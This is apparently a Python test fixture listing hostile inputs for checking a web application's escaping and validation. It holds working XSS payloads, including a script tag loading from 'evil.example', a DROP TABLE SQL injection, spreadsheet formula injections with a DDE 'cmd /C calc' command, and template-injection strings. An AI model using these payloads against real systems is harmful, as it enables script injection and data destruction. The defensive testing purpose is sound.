"""A corpus of hostile values, for every input of the application.

Each value is something a scraped page, a careless paste or an attacker may send: markup
that would run if echoed raw, strings that break out of an attribute, template and SQL
syntax, spreadsheet formulas, text-direction tricks, invisible and astral characters, a
megabyte of text, NUL characters, and bytes that are not UTF-8 at all."""

SCRIPT = "<script>alert('xss')</script>"

HOSTILE: dict[str, str] = {
    "script": SCRIPT,
    "script_upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "img_onerror": '<img src=x onerror="alert(1)">',
    "svg_onload": "<svg/onload=alert(1)>",
    "attribute_breakout": '" autofocus onfocus="alert(1)" x="',
    "single_quote_breakout": "' onmouseover='alert(1)' x='",
    "closing_tags": "</textarea></title></script><b>bold</b>",
    "javascript_url": "javascript:alert(document.cookie)",
    "data_url": "data:text/html,<script>alert(1)</script>",
    "template_variable": "{{ request.user.password }}",
    "template_tag": "{% debug %}{% load static %}",
    "sql_quote": "Robert'); DROP TABLE annotator_statement;--",
    "sql_like": "100% _wild_ \\ escape",
    "formula_equals": '=HYPERLINK("http://evil.example","click")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3",
    "formula_at": "@SUM(A1:A9)",
    "formula_tab": "\t=1+1",
    "rtl_override": "Kirby \u202edeined\u202c said",
    "zero_width": "Ki\u200brby\u200d\ufeff",
    "astral": "Iran 🇮🇷 said 𝕳𝖊𝖑𝖑𝖔 😀 𓀀",
    "combining": "Z̵̡̛a̸l̷g̶o̴",
    "newlines": "line one\r\nline two\rline three\u2028four",
    "nul": "before\x00after",
    "megabyte": "word " * 200_000,
}

# Text the importer and the forms must cope with as raw bytes.
INVALID_UTF8: dict[str, bytes] = {
    "lone_continuation": b"Iran said \x80\x81 nothing.",
    "truncated_sequence": b"Iran denied \xe2\x80 it.",
    "latin1": "Téhéran a démenti.".encode("latin-1"),
    "overlong_slash": b"path \xc0\xaf etc.",
}

# The part of each value that must never reach a page unescaped.
ACTIVE_MARKUP = ("<script", "<img", "<svg", "onerror=", "onload=", 'onfocus="', "onmouseover='", "<b>bold</b>")

# Values short enough for every field (names are at most 200-300 characters).
SHORT = {name: value for name, value in HOSTILE.items() if len(value) <= 200}

# What stored text becomes: NUL characters cannot be stored by PostgreSQL and are refused
# by the forms and the API; the importer drops them.
WITHOUT_NUL = {name: value.replace("\x00", "") for name, value in HOSTILE.items()}
